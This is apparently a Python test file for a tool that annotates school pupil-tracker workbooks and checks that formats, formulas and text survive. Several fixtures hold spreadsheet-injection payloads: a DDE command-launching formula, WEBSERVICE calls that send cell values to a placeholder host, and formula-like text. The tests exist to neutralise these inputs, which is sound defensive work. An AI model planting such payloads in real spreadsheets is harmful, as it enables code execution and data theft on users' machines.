"""A school's own workbook, handed back: what is kept, what is annotated, and that it can be sent again."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from builders_annotated import FAULTY, GOOD, HEADS, NAMES, OAKFIELD, AnnotatingTrust, book_of, listed, said
from builders_binary_sheets import cells_of, ods_rows, write_ods, write_xls, write_xlsb
from builders_sheets import made_upn, raw_rows, write_csv, write_raw_xlsx, write_xlsx
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from work_done import seconds_of_work

from etl.__main__ import main
from etl.annotated import NotAnnotatedError, annotate, checked_name, save_annotated
from etl.annotated.cells import COMMENT_SIGN, FILLS
from etl.annotated.formulas import reaches_outside
from etl.annotated.from_cells import legal_names
from etl.containers import open_workbook
from etl.errors import UnreadableFileError
from etl.problems import Severity
from etl.returns.outcome import Outcome, Status

STOP, CHECK = FILLS[Severity.STOP], FILLS[Severity.CHECK]


@pytest.fixture
def trust(tmp_path: Path) -> AnnotatingTrust:
    return AnnotatingTrust(tmp_path)


def fill(cell: Any) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill.patternType else ""


def reading(outcomes: list[Outcome]) -> list[Any]:
    """All that a check says and reads, but for the sheets' names, which Excel may not allow."""
    return [
        (
            one.status,
            one.pupils,
            one.judgements,
            [(p.code, p.cell, p.message, p.suggestion) for p in one.problems],
            [(p.upn, p.year_group, p.class_name, p.row) for p in one.reading.pupils],
            [(m.upn, m.half_term, m.subject, m.kind, m.judgement, m.cell) for m in one.reading.marks],
        )
        for one in outcomes
        if one.reading
    ]


# What is annotated


def test_every_cell_that_a_problem_names_is_filled_and_commented(
    trust: AnnotatingTrust, tmp_path: Path
) -> None:
    file = write_xlsx(tmp_path / "tracker.xlsx", {"Year 6": FAULTY})
    sheet = book_of(trust.annotated(file))["Year 6"]
    named = {p.cell for one in trust.check(file) for p in one.problems if p.cell}
    assert named == {"A3", "C4", "D4"}
    for cell in (cell for row in sheet.iter_rows() for cell in row):
        if cell.coordinate in named:
            assert fill(cell) == STOP
            assert "■ Stop" in cell.comment.text
        else:
            assert (fill(cell), cell.comment) == ("", None)
    assert sheet["C4"].comment.text == (
        f"{COMMENT_SIGN}\n■ Stop\n“Exppected” is not a mark that is known.\n"
        "Probably EXS (expected). Type PKS, WTS, EXS or GDS."
    )


def test_several_problems_at_a_cell_make_one_comment_and_the_gravest_gives_the_fill(
    trust: AnnotatingTrust, tmp_path: Path
) -> None:
    from dataclasses import replace

    from etl.problems import Problem

    file = write_xlsx(tmp_path / "tracker.xlsx", {"Marks": GOOD})
    problems = tuple(
        Problem(severity, "x", f"Found {severity}.", "Do it.", "Marks", cell)
        for severity, cell in [("check", "C2"), ("stop", "C2"), ("check", "D2"), ("info", "D3")]
        for severity in [Severity(severity)]
    )
    outcomes = [replace(trust.check(file)[0], problems=problems)]
    written = tmp_path / "annotated.xlsx"
    written.write_bytes(annotate(file, outcomes, NAMES))
    sheet = book_of(written)["Marks"]
    assert [fill(sheet[cell]) for cell in ("C2", "D2", "D3")] == [STOP, CHECK, FILLS[Severity.INFO]]
    assert sheet["C2"].comment.text == (
        f"{COMMENT_SIGN}\n■ Stop\nFound stop.\nDo it.\n\n▲ Check\nFound check.\nDo it."
    )


def test_a_merged_cell_is_marked_where_it_shows_and_a_blank_far_one_is_made(
    trust: AnnotatingTrust, tmp_path: Path
) -> None:
    from dataclasses import replace

    from etl.problems import Problem

    file = write_xlsx(tmp_path / "t.xlsx", {"Marks": GOOD}, merges={"Marks": [(1, 1, 2, 1)]})
    problems = tuple(Problem(Severity.STOP, "x", "m", "", "Marks", cell) for cell in ("B3", "BB900"))
    written = tmp_path / "annotated.xlsx"
    written.write_bytes(annotate(file, [replace(trust.check(file)[0], problems=problems)], NAMES))
    sheet = book_of(written)["Marks"]
    assert sheet["B2"].comment is not None
    assert [fill(sheet[cell]) for cell in ("B2", "BB900")] == [STOP, STOP]
    assert [row[2] for row in listed(written)] == ["B3", "BB900"]


def test_white_text_stays_legible_on_the_fill(trust: AnnotatingTrust, tmp_path: Path) -> None:
    book = Workbook()
    for row in FAULTY:
        book.active.append(row)
    book.active["C4"].font = Font(color="FFFFFFFF", bold=True)
    book.active["C4"].fill = PatternFill("solid", fgColor="FF1F4E78")
    book.save(tmp_path / "t.xlsx")
    font = book_of(trust.annotated(tmp_path / "t.xlsx"))["Sheet"]["C4"].font
    assert (font.color.rgb, font.bold) == ("FF1D2329", True)


def test_the_fills_stay_apart_for_every_kind_of_colour_vision() -> None:
    # Machado, Oliveira & Fernandes 2009, severity 1: what red-, green- and blue-blind eyes see; and greys.
    eyes = {
        "usual": ((1, 0, 0), (0, 1, 0), (0, 0, 1)),
        "protanopia": ((0.152, 1.053, -0.205), (0.115, 0.786, 0.099), (-0.004, -0.048, 1.052)),
        "deuteranopia": ((0.367, 0.861, -0.228), (0.280, 0.673, 0.047), (-0.012, 0.043, 0.969)),
        "tritanopia": ((1.256, -0.077, -0.179), (-0.078, 0.931, 0.148), (0.005, 0.691, 0.304)),
        "grey": ((0.213, 0.715, 0.072),) * 3,
    }

    def lightness(colour: str, eye: Any) -> float:
        channels = [(int(colour[at : at + 2], 16) / 255) ** 2.2 for at in (0, 2, 4)]
        seen = [sum(weight * value for weight, value in zip(row, channels, strict=True)) for row in eye]
        return 116 * (0.213 * seen[0] + 0.715 * seen[1] + 0.072 * seen[2]) ** (1 / 3) - 16

    for name, eye in eyes.items():
        assert abs(lightness(STOP, eye) - lightness(CHECK, eye)) > 14, name


# The Fix list


def test_the_fix_list_is_first_and_open_and_its_links_lead_to_the_cells(
    trust: AnnotatingTrust, tmp_path: Path
) -> None:
    file = write_xlsx(tmp_path / "t.xlsx", {"Cover": [["Ours"]], "Day's class": FAULTY})
    annotated = trust.annotated(file)
    book = book_of(annotated)
    assert book.sheetnames == ["Fix list", "Cover", "Day's class"]
    assert book.active.title == "Fix list"
    assert [sheet.title for sheet in book if sheet.sheet_view.tabSelected] == ["Fix list"]
    rows = listed(annotated)
    found = trust.check(file)[0].problems
    assert [row[3] for row in rows] == [one.message for one in found]
    assert [row[:3] for row in rows] == [
        ("■ Stop", "Day's class", "A3"),
        ("■ Stop", "Day's class", "C4"),
        ("■ Stop", "Day's class", "D4"),
        ("● For information", "Cover", None),
    ]
    links = {
        cell.hyperlink.location for row in book["Fix list"].iter_rows() for cell in row if cell.hyperlink
    }
    assert links == {"'Day''s class'!A3", "'Day''s class'!C4", "'Day''s class'!D4", "'Cover'!A1"}
    assert said(annotated).splitlines()[:4] == [
        "Fix list",
        "Oakfield Primary School, 2025/26 Spring 1",
        "Found: 3 stops to be put right, 0 checks worth a look, 1 for information.",
        "Correct the coloured cells, save, and send this file as it is: this sheet, the colours and the "
        "comments are left out when it is read.",
    ]


def test_where_nothing_was_found_it_says_so(trust: AnnotatingTrust, tmp_path: Path) -> None:
    rows = [[*HEADS, "Maths Current"], *([*row, "EXS"] for row in GOOD[1:])]
    file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": rows})
    assert [one.problems for one in trust.check(file)] == [()]
    annotated = trust.annotated(file)
    assert "Nothing was found: the file can be loaded as it is." in said(annotated)
    assert listed(annotated) == []
    assert reading(trust.check(annotated)) == reading(trust.check(file))


def test_a_sheet_that_looks_like_a_formula_is_listed_as_text(trust: AnnotatingTrust, tmp_path: Path) -> None:
    annotated = trust.annotated(write_xlsx(tmp_path / "t.xlsx", {"=1+1": FAULTY}))
    assert {cell.data_type for row in book_of(annotated)["Fix list"].iter_rows() for cell in row} <= {
        "s",
        "n",
    }
    assert {row[1] for row in listed(annotated)} == {"=1+1"}


def test_a_schools_own_sheet_called_fix_list_is_its_own(trust: AnnotatingTrust, tmp_path: Path) -> None:
    annotated = trust.annotated(write_xlsx(tmp_path / "t.xlsx", {"Fix list": FAULTY}))
    assert [sheet.name for sheet in open_workbook(annotated).sheets] == ["Fix list"]
    assert len(book_of(annotated).sheetnames) == 2


# What is kept


def test_the_workbook_keeps_its_formats(trust: AnnotatingTrust, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Year 6"
    for row in [["Oakfield, Spring 1 2025/26", None, None, None], *FAULTY]:
        sheet.append(row)
    sheet.merge_cells("A1:D1")
    sheet["A1"].font = Font(name="Georgia", size=18, italic=True, color="FF8C1D40")
    sheet["B3"].number_format = '"Year "0'
    sheet["F3"] = CellRichText("plain ", TextBlock(InlineFont(b=True), "bold"))
    sheet["G3"], sheet["G3"].number_format = -1, "dd/mm/yyyy"
    sheet["H3"], sheet["H3"].number_format = 45678.123456789, "dd/mm/yyyy hh:mm"
    sheet.column_dimensions["A"].width = 21
    sheet.row_dimensions[3].height = 33
    sheet.row_dimensions[6].hidden = True
    sheet.column_dimensions["H"].hidden = True
    sheet.freeze_panes = "B3"
    listed_marks = DataValidation(type="list", formula1='"PKS,WTS,EXS,GDS"')
    sheet.add_data_validation(listed_marks)
    listed_marks.add("C3:D99")
    red = PatternFill(bgColor="FFFF0000")
    sheet.conditional_formatting.add("C3:D99", CellIsRule(operator="equal", formula=['"PKS"'], fill=red))
    book.create_sheet("Notes")["B2"] = "kept"
    book["Notes"].sheet_state = "hidden"
    book.save(tmp_path / "t.xlsx")

    annotated = trust.annotated(tmp_path / "t.xlsx")
    kept = book_of(annotated)
    made = kept["Year 6"]
    assert kept.sheetnames[1:] == ["Year 6", "Notes"]
    assert (kept["Notes"].sheet_state, kept["Notes"]["B2"].value) == ("hidden", "kept")
    font = made["A1"].font
    assert (font.name, font.size, font.italic, font.color.rgb) == ("Georgia", 18, True, "FF8C1D40")
    assert made["B3"].number_format == '"Year "0'
    assert [str(area) for area in made.merged_cells.ranges] == ["A1:D1"]
    assert (made.column_dimensions["A"].width, made.row_dimensions[3].height) == (21, 33)
    assert (made.row_dimensions[6].hidden, made.column_dimensions["H"].hidden) == (True, True)
    assert made.freeze_panes == "B3"
    [validation] = made.data_validations.dataValidation
    assert (str(validation.sqref), validation.formula1) == ("C3:D99", '"PKS,WTS,EXS,GDS"')
    [area] = made.conditional_formatting
    assert (str(area.sqref), area.rules[0].formula) == ("C3:D99", ['"PKS"'])
    xml = zipfile.ZipFile(annotated).read("xl/worksheets/sheet2.xml").decode()
    assert "<b" in xml.split('r="F3"')[1].split("</c>")[0], "part of the text is bold"
    # A number that is no date, and one with more digits than a time keeps, are the numbers that they were.
    assert "<v>-1</v>" in xml.split('r="G3"')[1].split("</c>")[0]
    assert "<v>45678.123456789</v>" in xml.split('r="H3"')[1].split("</c>")[0]
    assert reading(trust.check(annotated)) == reading(trust.check(tmp_path / "t.xlsx"))


def test_a_problem_in_a_hidden_row_is_said_to_be_there(trust: AnnotatingTrust, tmp_path: Path) -> None:
    book = Workbook()
    for row in FAULTY:
        book.active.append(row)
    book.active.row_dimensions[3].hidden = True
    book.save(tmp_path / "t.xlsx")
    found = {row[2]: row[3] for row in listed(trust.annotated(tmp_path / "t.xlsx"))}
    assert found["A3"] == "This pupil has no UPN. The cell is in a hidden row."
    assert "hidden" not in found["C4"]


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"xl/vbaProject.bin": b"macro"}, "Macros are left out"),
        ({"xl/charts/chart1.xml": b"<c/>"}, "Charts, pictures and shapes may be missing"),
        ({"xl/ctrlProps/ctrlProp1.xml": b"<c/>"}, "Buttons, tick boxes"),
        ({"xl/connections.xml": b"<c/>"}, "Connections to data outside"),
    ],
)
def test_what_cannot_be_kept_is_said(
    trust: AnnotatingTrust, tmp_path: Path, extra: dict[str, bytes], words: str
) -> None:
    rows = {
        1: dict(zip("ABCD", HEADS, strict=True)),
        2: {"A": made_upn(1), "B": "6", "C": "EXS", "D": "GDS"},
    }
    annotated = trust.annotated(write_raw_xlsx(tmp_path / "t.xlsm", raw_rows(rows), extra=extra))
    assert words in said(annotated)
    assert annotated.suffix == ".xlsx"
    assert not {name for name in zipfile.ZipFile(annotated).namelist() if name in extra}


def test_what_openpyxl_can_keep_of_a_lively_workbook_is_kept_and_the_rest_said(
    trust: AnnotatingTrust, tmp_path: Path
) -> None:
    with xlsxwriter.Workbook(tmp_path / "t.xlsx") as book:
        sheet = book.add_worksheet("Marks")
        for number, row in enumerate(FAULTY):
            sheet.write_row(number, 0, row)
        sheet.add_table(0, 0, 3, 3, {"columns": [{"header": heading} for heading in HEADS]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Marks!$B$2:$B$4"})
        sheet.insert_chart("F2", chart)
        sheet.add_sparkline("E2", {"range": "Marks!B2:B4"})
        sheet.insert_button("M2", {"caption": "Go"})
        sheet.write_comment("B2", "Ours")
        book.define_name("Kept", "=Marks!$A$1")
        book.define_name("Dangerous", "=cmd|'/C calc'!A0")
    annotated = trust.annotated(tmp_path / "t.xlsx")
    book = book_of(annotated)
    assert list(book["Marks"].tables) == ["Table1"]
    assert list(book.defined_names) == ["Kept"]
    assert book["Marks"]["B2"].comment.text == "Ours"
    for words in (
        "Charts, pictures",
        "Small charts within cells",
        "Buttons, tick boxes",
        "Your own comments",
    ):
        assert words in said(annotated)


# Formulas


FORMULAS = {
    "C2": ('=IF(1=1,"EXS","")', "EXS"),
    "D2": ("=VLOOKUP(A2,A:D,4,FALSE)", "GDS"),
    "D3": ("=NA()", "#N/A"),
    "B3": ("=3+3", 6),
    "F5": ("=COUNTA(C2:C4)", 3),
}


def with_formulas(path: Path) -> Path:
    return write_xlsx(path, {"Year 6": GOOD}, formulas={"Year 6": FORMULAS})


def test_formulas_stay_and_keep_their_results(trust: AnnotatingTrust, tmp_path: Path) -> None:
    file = with_formulas(tmp_path / "t.xlsx")
    annotated = trust.annotated(file)
    sheet = book_of(annotated)["Year 6"]
    assert {cell: sheet[cell].value for cell in FORMULAS} == {c: f for c, (f, _) in FORMULAS.items()}
    assert open_workbook(annotated).sheets == open_workbook(file).sheets
    assert reading(trust.check(annotated)) == reading(trust.check(file))
    assert [(p.code, p.cell) for p in trust.check(annotated)[0].problems if p.cell] == [("error_value", "D3")]


def test_a_formula_that_had_no_result_is_still_a_fault(trust: AnnotatingTrust, tmp_path: Path) -> None:
    book = Workbook()
    for row in GOOD:
        book.active.append(row)
    book.active["C2"] = '="EXS"'  # openpyxl writes no result
    book.save(tmp_path / "t.xlsx")
    for file in (tmp_path / "t.xlsx", trust.annotated(tmp_path / "t.xlsx")):
        found = [(p.code, p.cell) for p in trust.check(file)[0].problems if p.cell]
        assert found == [("formula_without_value", "C2")]


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ('=WEBSERVICE("http://x/?"&A1)', True),
        ('=_xlfn.WEBSERVICE("http://x")', True),
        ("=cmd|'/C calc'!A0", True),
        ('=RTD("a",,"b")', True),
        ('=IMAGE("http://x")', True),
        ('=IF(A1="|","a","b")', False),
        ("='a|b'!A1", False),
        ("=[1]Sheet1!A1", False),
        ('=HYPERLINK("http://x","y")', False),
        ("=SUM(A1:A3)", False),
        ("=RECALL(A1)", False),
    ],
)
def test_what_reaches_outside_by_itself(formula: str, outside: bool) -> None:
    assert reaches_outside(formula) is outside


def test_formulas_that_reach_outside_come_back_as_values(trust: AnnotatingTrust, tmp_path: Path) -> None:
    formulas = {"C2": ('=WEBSERVICE("http://x/?"&A2)', "EXS"), "C3": ("=cmd|'/C calc'!A0", "WTS")}
    file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": GOOD}, formulas={"Year 6": formulas})
    annotated = trust.annotated(file)
    sheet = book_of(annotated)["Year 6"]
    assert [(sheet[cell].data_type, sheet[cell].value) for cell in formulas] == [("s", "EXS"), ("s", "WTS")]
    assert "given as the values they had" in said(annotated)
    assert reading(trust.check(annotated)) == reading(trust.check(file))


# Other kinds

KINDS: dict[str, Callable[[Path, list[list[Any]]], Path]] = {
    "xlsx": lambda path, rows: write_xlsx(path, {"Year 6": rows}),
    "csv": lambda path, rows: write_csv(path, rows),
    "xls": lambda path, rows: write_xls(path, {"Year 6": cells_of(rows)}),
    "xlsb": lambda path, rows: write_xlsb(path, {"Year 6": cells_of(rows)}),
    "ods": lambda path, rows: write_ods(path, {"Year 6": ods_rows(rows)}),
}
DANGEROUS = ['=HYPERLINK("http://x","y")', "+1", "@SUM(A1)", "-x", "007", '=cmd|"/C calc"!A0']


@pytest.mark.parametrize("kind", KINDS)
def test_a_marked_copy_reads_as_the_file_does(trust: AnnotatingTrust, tmp_path: Path, kind: str) -> None:
    file = KINDS[kind](tmp_path / f"Oakfield Y6.{kind}", FAULTY)
    annotated = trust.annotated(file)
    before, after = reading(trust.check(file)), reading(trust.check(annotated))
    assert before[0][3]
    assert after == before
    again = trust.annotated(annotated, "again.xlsx")
    assert reading(trust.check(again)) == before


@pytest.mark.parametrize("kind", KINDS)
def test_text_that_looks_like_a_formula_stays_text(trust: AnnotatingTrust, tmp_path: Path, kind: str) -> None:
    rows = [[*HEADS, "Notes"], *([made_upn(n), "6", "EXS", "EXS", text] for n, text in enumerate(DANGEROUS))]
    file = KINDS[kind](tmp_path / f"t.{kind}", rows)
    for annotated in (trust.annotated(file), trust.annotated(trust.annotated(file), "again.xlsx")):
        [name] = book_of(annotated).sheetnames[1:]
        cells = [row[4] for row in book_of(annotated)[name].iter_rows(min_row=2)]
        assert [cell.value for cell in cells] == DANGEROUS
        assert {cell.data_type for cell in cells} == {"s"}
        assert [bool(cell.quotePrefix) for cell in cells] == [True, True, True, True, False, True]


@pytest.mark.parametrize("name", ["Reading", "Y6 A2", "Year 6 Oak", "R", "x" * 40 + " Year 6 Reading"])
def test_a_text_files_name_says_no_more_than_it_did(
    trust: AnnotatingTrust, tmp_path: Path, name: str
) -> None:
    rows = [["UPN", "Current"], [made_upn(1), "EXS"], [made_upn(2), "GDS"]]
    file = write_csv(tmp_path / f"{name}.csv", rows)
    assert reading(trust.check(trust.annotated(file))) == reading(trust.check(file))


def test_a_corrected_copy_is_accepted(trust: AnnotatingTrust, tmp_path: Path) -> None:
    annotated = trust.annotated(write_csv(tmp_path / "Oakfield.csv", FAULTY))
    book = book_of(annotated)
    sheet = book["Oakfield"]
    sheet["A3"], sheet["C4"], sheet["D4"] = made_upn(2), "EXS", "WTS"
    book.save(annotated)
    [outcome] = trust.check(annotated)
    assert (outcome.status, outcome.pupils, outcome.judgements) == (Status.ACCEPTED, 3, 6)


@given(st.lists(st.text(max_size=60), min_size=1, max_size=8, unique=True))
def test_every_sheet_gets_a_name_of_its_own_that_excel_takes(names: list[str]) -> None:
    given_names = legal_names(names)
    assert list(given_names) == names
    assert len({one.casefold() for one in given_names.values()}) == len(names)
    for name in given_names.values():
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'")
        assert not name.endswith("'")


# A second time


def test_a_second_check_takes_the_marks_of_the_first_out(trust: AnnotatingTrust, tmp_path: Path) -> None:
    book = Workbook()
    for row in FAULTY:
        book.active.append(row)
    sheet = book.active
    sheet["C4"].fill = PatternFill("solid", fgColor="FF1F4E78")
    sheet["C4"].font = Font(color="FFFFFFFF")
    sheet["C4"].comment = Comment("Ask the class teacher", "School")
    sheet["A3"].fill = PatternFill("lightUp", fgColor="FF00FF00")
    sheet["D4"].fill = PatternFill("solid", fgColor="FFFFFF00")
    book.save(tmp_path / "t.xlsx")

    first = trust.annotated(tmp_path / "t.xlsx")
    annotated = book_of(first)
    assert annotated["Sheet"]["C4"].comment.text.startswith(
        f"Ask the class teacher\n\n{COMMENT_SIGN}\n■ Stop"
    )
    annotated["Sheet"]["A3"], annotated["Sheet"]["C4"] = made_upn(2), "EXS"
    annotated.save(first)

    second = book_of(trust.annotated(first, "second.xlsx"))
    again = second["Sheet"]
    assert second.sheetnames == ["Fix list", "Sheet"]
    assert (again["A3"].fill.patternType, again["A3"].fill.fgColor.rgb) == ("lightUp", "FF00FF00")
    assert (fill(again["C4"]), again["C4"].font.color.rgb) == ("1F4E78", "FFFFFFFF")
    assert (again["A3"].comment, again["C4"].comment.text) == (None, "Ask the class teacher")
    assert (fill(again["D4"]), again["D4"].comment.text.count(COMMENT_SIGN)) == (STOP, 1)
    again["D4"] = "WTS"
    second.save(tmp_path / "third.xlsx")
    third = book_of(trust.annotated(tmp_path / "third.xlsx", "fourth.xlsx"))["Sheet"]
    assert (fill(third["D4"]), third["D4"].comment) == ("FFFF00", None)


# Files made to do harm, or damaged


def to_the_last_row(path: Path) -> Path:
    """Formatted to the last row of the sheet, as many trackers are."""
    data = raw_rows(
        {1: dict(zip("ABCD", HEADS, strict=True)), 2: {"A": made_upn(1), "B": "6", "C": "Exx", "D": "GDS"}}
    )
    blank = "".join(
        f'<row r="{n}" ht="15"><c r="A{n}" s="0"/><c r="B{n}" s="0"/></row>' for n in range(3, 1_048_577)
    )
    return write_raw_xlsx(path, data.replace("</sheetData>", f"{blank}</sheetData>"))


def far_cell(path: Path) -> Path:
    return write_raw_xlsx(
        path,
        raw_rows(
            {
                1: dict(zip("ABCD", HEADS, strict=True)),
                2: {"A": made_upn(1), "B": "6", "C": "Exx", "D": "GDS"},
                1_048_576: {"XFD": "far"},
            }
        ),
    )


def merged_over_everything(path: Path) -> Path:
    data = raw_rows(
        {1: dict(zip("ABCD", HEADS, strict=True)), 2: {"A": made_upn(1), "B": "6", "C": "Exx", "D": "GDS"}}
    )
    return write_raw_xlsx(path, f'{data}<mergeCells count="1"><mergeCell ref="A5:XFD1048576"/></mergeCells>')


def damaged_styles(path: Path) -> Path:
    return write_raw_xlsx(
        path,
        raw_rows(
            {
                1: dict(zip("ABCD", HEADS, strict=True)),
                2: {"A": made_upn(1), "B": "6", "C": "Exx", "D": "GDS"},
            }
        ).replace('r="C2"', 'r="C2" s="900"'),
    )


@pytest.mark.parametrize(
    ("write", "seconds", "words"),
    [
        (to_the_last_row, 50, "Formats of blank cells far from the table are left out"),
        (far_cell, 20, ""),
        (merged_over_everything, 80, "could not be copied with its formats"),
        (damaged_styles, 20, "could not be copied with its formats"),
    ],
)
def test_a_file_that_asks_for_too_much_is_marked_all_the_same(
    trust: AnnotatingTrust, tmp_path: Path, write: Callable[[Path], Path], seconds: float, words: str
) -> None:
    file = write(tmp_path / "t.xlsx")
    outcomes = trust.check(file)
    before = seconds_of_work()
    content = annotate(file, outcomes, NAMES)
    assert seconds_of_work() - before < seconds
    annotated = tmp_path / "annotated.xlsx"
    annotated.write_bytes(content)
    assert words in said(annotated)
    assert fill(book_of(annotated)["Marks"]["C2"]) == STOP
    assert [(p.code, p.cell) for p in trust.check(annotated)[0].problems if p.cell] == [
        ("unknown_mark", "C2")
    ]
    if write is far_cell:
        assert book_of(annotated)["Marks"]["XFD1048576"].value == "far"


def test_a_file_that_cannot_be_read_gets_no_copy(trust: AnnotatingTrust, tmp_path: Path) -> None:
    file = tmp_path / "t.xlsx"
    file.write_bytes(b"PK\x03\x04 cut short")
    with pytest.raises(NotAnnotatedError, match="cannot be read"):
        annotate(file, trust.check(file), NAMES)


def test_a_file_of_the_fix_list_alone_holds_no_return(trust: AnnotatingTrust, tmp_path: Path) -> None:
    annotated = trust.annotated(write_csv(tmp_path / "t.csv", FAULTY))
    book = book_of(annotated)
    book.remove(book["t"])
    book.save(annotated)
    with pytest.raises(UnreadableFileError, match="no sheet with cells"):
        open_workbook(annotated)


# From the command line


def run(trust: AnnotatingTrust, *arguments: object) -> int:
    given_ = ["check", *map(str, arguments), "--half-term", "2025/26 Spring 1"]
    return main([*given_, "--data", str(trust.folder.root)])


def test_check_writes_marked_copies_and_only_json_to_standard_output(
    trust: AnnotatingTrust, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a").mkdir()
    files = [write_csv(tmp_path / "t.csv", FAULTY), write_xlsx(tmp_path / "a" / "t.xlsx", {"Y6": FAULTY})]
    broken = tmp_path / "broken.xls"
    broken.write_bytes(b"%PDF-1.7")
    into = tmp_path / "deep" / "copies"
    capsys.readouterr()
    assert run(trust, *files, broken, "--json", "--annotate", into) == 2
    out, errors = capsys.readouterr()
    assert [one["status"] for one in json.loads(out)] == ["rejected"] * 3
    assert {one.name for one in into.iterdir()} == {"t - checked.xlsx", "t - checked (2).xlsx"}
    assert [line for line in errors.splitlines() if line] == [
        f"t.csv: annotated copy in {into / 't - checked.xlsx'}",
        f"t.xlsx: annotated copy in {into / 't - checked (2).xlsx'}",
        "broken.xls: The file cannot be read, so there is no annotated copy of it.",
    ]
    assert book_of(into / "t - checked.xlsx").sheetnames == ["Fix list", "t"]


def test_a_file_is_never_overwritten(trust: AnnotatingTrust, tmp_path: Path) -> None:
    original = write_xlsx(tmp_path / "t - checked.xlsx", {"Y6": FAULTY})
    before = original.read_bytes()
    written = save_annotated(original, trust.check(original), NAMES, tmp_path)
    assert written.name == "t - checked (2).xlsx"
    assert original.read_bytes() == before


@pytest.mark.parametrize(
    ("name", "copy"),
    [
        ("Year 6.csv", "Year 6 - checked.xlsx"),
        ("a.b.xlsm", "a.b - checked.xlsx"),
        ("t - checked.xlsx", "t - checked.xlsx"),
        ("t - checked (2).xlsx", "t - checked.xlsx"),
    ],
)
def test_what_a_copy_is_called(name: str, copy: str) -> None:
    assert checked_name(name) == copy


def test_only_what_the_given_outcomes_say_is_in_the_copy(trust: AnnotatingTrust, tmp_path: Path) -> None:
    file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": FAULTY})
    from dataclasses import replace

    [outcome] = trust.check(file)
    other = replace(outcome, school_urn=OAKFIELD, problems=outcome.problems[:1])
    (tmp_path / "one.xlsx").write_bytes(annotate(file, [other], NAMES))
    assert [row[2] for row in listed(tmp_path / "one.xlsx")] == ["A3"]
